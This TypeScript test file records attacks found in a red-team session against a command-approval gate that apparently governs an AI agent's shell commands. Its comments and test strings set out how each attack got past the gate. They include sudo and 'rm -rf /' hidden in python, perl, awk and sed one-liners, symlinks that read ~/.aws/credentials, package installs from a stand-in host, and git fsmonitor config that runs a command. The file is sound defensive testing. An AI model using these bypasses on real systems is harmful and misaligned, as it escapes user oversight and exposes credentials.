// Attacks found in session 11 (attack11). Each test below fails on the gate as the attack found it (6f7ac82).
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Config, defaultConfig } from '../../src/config/schema.js';
import { analyzeLine, decisionFor, type LineAnalysis } from '../../src/gate/analyze.js';
import { initParser } from '../../src/gate/parse.js';
import { containedEnv } from '../../src/sandbox/env.js';
import { askedAfterSessionAnswer } from '../helpers/session-answer.js';

const PROJECT = '/work/project';

beforeAll(async () => {
  await initParser();
});

const contained = defaultConfig();
const open: Config = { ...contained, sandbox: { ...contained.sandbox, enabled: false } };

function analysis(line: string, config: Pick<Config, 'policy'> & { sandbox?: { enabled: boolean } } = contained): LineAnalysis {
  return analyzeLine(line, config, PROJECT, { home: '/home/person', project: PROJECT });
}
function decision(line: string, config: Pick<Config, 'policy'> & { sandbox?: { enabled: boolean } } = contained): string {
  return decisionFor(analysis(line, config), contained.approval.threshold);
}

describe('attack: with the sandbox off, a read whose files the words do not name ran unasked and read .env', () => {
  // With `sandbox.enabled: false` nothing hides the project's secret files, yet `grep -r . .` or `cat *` ran
  // unasked: the gate rated them as if the containment showed .env empty. Checked in bash: `grep -r . .` in a
  // folder with `.env` prints its lines; `cat *` prints `secrets.json`.
  const LINES = [
    'grep -r . .',
    'grep -r x',
    'grep -R TODO src',
    'grep -d recurse x .',
    'grep --directories=recurse x .',
    'rg -uu x',
    'rg --hidden x .',
    'git grep --untracked x',
    'cat *',
    'cat ./*',
    'cat -- *',
    'head -n 99 *',
    'tail -n +1 **/*',
    'grep x *',
    'sort -- *',
    'awk 1 -- *',
    'timeout 5 cat *',
    'cat ?env',
    'diff -r a b',
  ];
  for (const line of LINES) {
    it(`\`${line}\` is asked when the sandbox is off`, () => {
      expect(decision(line, open)).toBe('ask');
    });
  }

  it("with the sandbox off, ps and pgrep, which show other processes' command lines (passwords, tokens), are asked", () => {
    for (const line of ['ps aux', 'ps -ef', 'ps -o args', 'pgrep -a node']) {
      expect(decision(line, open), line).toBe('ask');
      expect(decision(line, contained), line).toBe('run');
    }
  });

  it('the sandbox being on is not assumed: a configuration that does not say reads as off (fail closed)', () => {
    expect(decision('grep -r . .', { policy: contained.policy })).toBe('ask');
    expect(decision('cat *', { policy: contained.policy })).toBe('ask');
  });

  it('with the sandbox on, the same reads still run unasked (the containment shows secret files empty)', () => {
    for (const line of ['grep -r . .', 'rg x', 'cat *', 'head -n 99 *']) expect(decision(line, contained), line).toBe('run');
  });

  it('reads of named files, and programs that print only names or sizes, still run unasked with the sandbox off', () => {
    for (const line of ['cat README.md', 'ls -la', 'ls *', 'du -sh *', 'wc -l *', 'stat *', 'find . -name x', 'sha256sum *', 'git status']) {
      expect(decision(line, open), line).toBe('run');
    }
  });

  it('the reason names the folder or glob, so an answer for one read never covers another', async () => {
    expect(analysis('grep -r x src', open).parts[0]!.reasons.join()).toContain('below src');
    expect(analysis('cat src/*', open).parts[0]!.reasons.join()).toContain('(src/*)');
    expect(await askedAfterSessionAnswer('grep -r TODO src', 'grep -r . .', PROJECT, open)).toEqual(['grep -r . .']);
    expect(await askedAfterSessionAnswer('cat src/*', 'cat *', PROJECT, open)).toEqual(['cat *']);
    // The same folder is the same consent: searching it again for another word is not asked again.
    expect(await askedAfterSessionAnswer('grep -r TODO src', 'grep -r FIXME src', PROJECT, open)).toEqual([]);
  });
});

describe('attack: code in another language that runs a denied command was only asked about', () => {
  // Each program runs the string its shell-running call is given (checked in bash with `touch` in place of sudo):
  // a person could say yes to `sudo` hidden in it. The scan reads such strings as command lines (foreign-code.ts).
  const LINES: ReadonlyArray<readonly [string, string]> = [
    [`python -c 'import os; os.system("sudo x")'`, 'privilege'],
    [`python3 -Ic 'import subprocess; subprocess.run(["sudo", "ls"])'`, 'privilege'],
    [`python3 -c 'import subprocess; subprocess.check_output("sudo ls", shell=True)'`, 'privilege'],
    [`python3 -c "__import__('os').popen('sudo ls')"`, 'privilege'],
    [`python3 -c "import os; os.system('\\x73udo ls')"`, 'privilege'],
    [`python3 -c 'import os; os.system("rm -rf /")'`, 'delete-root'],
    [`perl -e 'system("sudo ls")'`, 'privilege'],
    [`perl -lne 'system "sudo ls"' notes.txt`, 'privilege'],
    [`perl -e 'print qx{sudo ls}'`, 'privilege'],
    ["perl -e 'print `sudo ls`'", 'privilege'],
    [`ruby -e 'system("sudo ls")'`, 'privilege'],
    [`ruby -e 'puts %x(sudo ls)'`, 'privilege'],
    [`node -e 'require("child_process").execSync("sudo ls")'`, 'privilege'],
    [`node --eval='require("child_process").spawnSync("sudo", ["ls"])'`, 'privilege'],
    [`php -r 'echo shell_exec("sudo ls");'`, 'privilege'],
    [`lua -e 'os.execute("sudo ls")'`, 'privilege'],
    [`Rscript -e 'system("sudo ls")'`, 'privilege'],
    [`awk 'BEGIN{system("rm -rf /")}'`, 'delete-root'],
    [`gawk 'BEGIN { "sudo ls" | getline x }'`, 'privilege'],
    [`awk -F: 'BEGIN{system("sudo ls")}'`, 'privilege'],
    [`expect -c 'spawn sudo ls'`, 'privilege'],
    [`osascript -e 'do shell script "sudo ls"'`, 'privilege'],
    [`pwsh -Command 'sudo ls'`, 'privilege'],
    [`python3 <<< 'import os; os.system("sudo ls")'`, 'privilege'],
    [`env python3 - <<< 'import os; os.system("sudo ls")'`, 'privilege'],
    ['python3 <<EOF\nimport os\nos.system("sudo ls")\nEOF', 'privilege'],
    [`tclsh <<< 'puts [exec sudo ls]'`, 'privilege'],
    [`python3 -c 'import os; os.system("s" "udo ls")'`, 'privilege'],
    [`node -e 'require("child_process").execSync("s" + "udo ls")'`, 'privilege'],
    [`perl -e 'system("s" . "udo ls")'`, 'privilege'],
    [`lua -e 'os.execute("s" .. "udo ls")'`, 'privilege'],
    [`sed -n '1e sudo ls' notes.txt`, 'privilege'],
    [`sed 's/a/b/;e sudo ls' notes.txt`, 'privilege'],
    [`sed -e p -e '$e rm -rf /' notes.txt`, 'delete-root'],
  ];
  for (const [line, rule] of LINES) {
    it(`\`${line}\` is refused (${rule})`, () => {
      expect(analysis(line).policyRule).toBe(rule);
    });
  }

  it('code that runs nothing denied is still asked, not refused, and keyed by its exact text', () => {
    for (const line of [`python3 -c 'print("hello")'`, `python3 -c 'import os; os.system("ls")'`, `perl -e 'system("make test")'`, `awk 'BEGIN{system("date")}'`, `sed '1e date' notes.txt`]) {
      const a = analysis(line);
      expect(decisionFor(a, contained.approval.threshold), line).toBe('ask');
      expect(a.parts[0]!.pattern, line).toBe(line);
    }
  });
});

describe('attack: an answer for `make build` covered make running other code (-f /dev/stdin, --eval, VAR=…)', () => {
  // make's key was `make build *` (or `make *`): an answer for `make build` covered `make build CC='curl … | sh;'`,
  // whose recipe runs the value, and `make` covered `make -f /dev/stdin <<< 'all:; CMD'` and `make --eval=…`.
  // Build tools also read variables that name programs they run (`MAKEFLAGS=--eval=…`, `RUSTC_WRAPPER=…`).
  it('make given a makefile, text to evaluate or a variable is keyed by its exact text', () => {
    for (const line of ["make -f /dev/stdin <<< 'all:; id'", "make --eval='x:; id' x", "make -E 'x:; id' x", "make build CC='id;'", 'make -f /tmp/x.mk']) {
      expect(analysis(line).parts[0]!.pattern, line).not.toMatch(/\*$/);
    }
    expect(analysis('make build').parts[0]!.pattern).toBe('make build *');
  });

  it('a session answer for `make build` or `cargo build` does not cover the same command with a program-naming variable', async () => {
    expect(await askedAfterSessionAnswer('make build', "make build CC='id;'", PROJECT)).toEqual(["make build CC='id;'"]);
    expect(await askedAfterSessionAnswer('make build', "MAKEFLAGS='--eval=x' make build", PROJECT)).toEqual(["MAKEFLAGS='--eval=x' make build"]);
    expect(await askedAfterSessionAnswer('cargo build', 'RUSTC_WRAPPER=./w cargo build', PROJECT)).toEqual(['RUSTC_WRAPPER=./w cargo build']);
    expect(await askedAfterSessionAnswer('pip install x', 'PIP_INDEX_URL=https://elsewhere.example pip install x', PROJECT)).toEqual([
      'PIP_INDEX_URL=https://elsewhere.example pip install x',
    ]);
  });
});

describe('attack: with the sandbox off, a file in the project that is a link to a secret outside it was read unasked', () => {
  // A repository may hold `docs/notes.txt -> ~/.aws/credentials`. Contained, the link leads to a hidden home; with
  // the sandbox off, `cat docs/notes.txt` ran unasked and printed the credentials (checked in bash).
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'wisp-attack11-')));
  const home = join(root, 'home');
  const project = join(root, 'project');
  beforeAll(() => {
    mkdirSync(join(home, '.aws'), { recursive: true });
    mkdirSync(join(project, 'docs'), { recursive: true });
    writeFileSync(join(home, '.aws', 'credentials'), 'aws_secret_access_key=x\n');
    writeFileSync(join(project, 'README.md'), 'hello\n');
    symlinkSync(join(home, '.aws', 'credentials'), join(project, 'docs', 'notes.txt'));
    symlinkSync(join(home, '.aws'), join(project, 'cfg'));
    symlinkSync(join(project, 'README.md'), join(project, 'docs', 'readme-link.md'));
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const decide = (line: string, config: Config): string =>
    decisionFor(analyzeLine(line, config, project, { home, project }), contained.approval.threshold);

  it('reading through the link is asked when the sandbox is off, and the reason names where it leads', () => {
    for (const line of ['cat docs/notes.txt', 'head -n 5 docs/notes.txt', 'git -C cfg log']) expect(decide(line, open), line).toBe('ask');
    const a = analyzeLine('cat docs/notes.txt', open, project, { home, project });
    expect(a.parts[0]!.reasons.join()).toContain(join(home, '.aws', 'credentials'));
  });

  it('a link that stays in the project, a plain file, and any file with the sandbox on still run unasked', () => {
    expect(decide('cat docs/readme-link.md', open)).toBe('run');
    expect(decide('cat README.md', open)).toBe('run');
    expect(decide('cat docs/notes.txt', contained)).toBe('run');
  });
});

describe('attack: an answer for a build, test or install command covered the same tool running code from elsewhere', () => {
  // Keys were `npm test *`, `go test *`, `cargo build *`, `pip install *`, `npm install *`: an answer for the plain
  // use covered a program, plugin, config or package index given in an option, and any other package to install
  // (whose install scripts run).
  const PAIRS: ReadonlyArray<readonly [string, string]> = [
    ['npm test', 'npm test -- --config=/tmp/x.js'],
    ['npm run build', 'npm run build --script-shell=/tmp/x'],
    ['npm install', 'npm install --registry=https://elsewhere.example'],
    ['npm install', 'npm install https://elsewhere.example/x.tgz'],
    ['npm install lodash', 'npm install other-package'],
    ['pip install requests', 'pip install --index-url https://elsewhere.example x'],
    ['pip install requests', 'pip install git+https://elsewhere.example/x'],
    ['brew install ripgrep', 'brew install other'],
    ['uv pip install black', 'uv pip install other'],
    ['cargo build', `cargo build --config 'build.rustc-wrapper="./w"'`],
    ['cargo test', 'cargo test --manifest-path /tmp/x/Cargo.toml'],
    ['go test ./...', 'go test -exec ./w ./...'],
    ['go build', 'go build -toolexec ./w'],
    ['pytest', 'pytest -p plugin_elsewhere'],
    ['npx tsc', 'npx -p other tsc'],
    ['docker build .', 'docker build -f /dev/stdin .'],
    ['docker compose up', 'docker compose -f /tmp/x.yml up'],
    ['yarn add x', 'yarn add x --registry https://elsewhere.example'],
  ];
  for (const [approved, later] of PAIRS) {
    it(`an answer for \`${approved}\` does not cover \`${later}\``, async () => {
      expect(await askedAfterSessionAnswer(approved, later, PROJECT)).toEqual([later]);
    });
  }

  it('the same package, and a plain use of the same tool, are still covered', async () => {
    expect(await askedAfterSessionAnswer('npm install lodash', 'npm install lodash', PROJECT)).toEqual([]);
    expect(await askedAfterSessionAnswer('npm test', 'npm test', PROJECT)).toEqual([]);
    expect(await askedAfterSessionAnswer('go test ./...', 'go test -run TestX ./...', PROJECT)).toEqual([]);
  });
});

describe('attack: a repository made by the model in the project ran its settings from a git command run unasked', () => {
  // `echo 'gitdir: ../g' > wt/.git` (a pointer), or a folder made to look like a bare repository with a `config`
  // the model wrote: the next `git status` there, run unasked, obeys `core.fsmonitor = CMD` (checked in bash: CMD ran).
  it('writing a file that tells git where a repository is (.git as a file, commondir, gitdir) is dangerous', () => {
    for (const line of ["echo 'gitdir: ../g' > wt/.git", 'cp notes.txt sub/.git', 'echo /tmp/g > .git/commondir', 'echo x >> .git/config.worktree']) {
      expect(analysis(line).parts[0]!.level, line).toBe('dangerous');
    }
    for (const line of ['echo x > .gitignore', 'echo x > src/git.ts']) expect(analysis(line).parts[0]!.level, line).toBe('moderate');
  });

  const git = (() => {
    try {
      const v = /(\d+)\.(\d+)/.exec(execFileSync('git', ['--version'], { encoding: 'utf8' }));
      return v !== null && (Number(v[1]) > 2 || (Number(v[1]) === 2 && Number(v[2]) >= 38));
    } catch {
      return false;
    }
  })();
  it.skipIf(!git)('a run allowed unasked gets git to use a bare-looking folder only when named (safe.bareRepository)', () => {
    const root = realpathSync(mkdtempSync(join(tmpdir(), 'wisp-attack11-git-')));
    try {
      const run = (args: string[], env?: NodeJS.ProcessEnv) => execFileSync('git', args, { cwd: root, env, stdio: 'pipe', encoding: 'utf8' });
      run(['init', '-q', '--bare', 'g']);
      mkdirSync(join(root, 'wt'));
      run(['-C', 'g', 'config', 'core.bare', 'false']);
      run(['-C', 'g', 'config', 'core.worktree', join(root, 'wt')]);
      run(['-C', 'g', 'config', 'core.fsmonitor', `touch ${join(root, 'ran')}; false`]);
      const env = containedEnv({ PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: root });
      expect(() => run(['-C', 'g', 'status'], env)).toThrow(/bare repository/);
      expect(() => realpathSync(join(root, 'ran'))).toThrow();
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
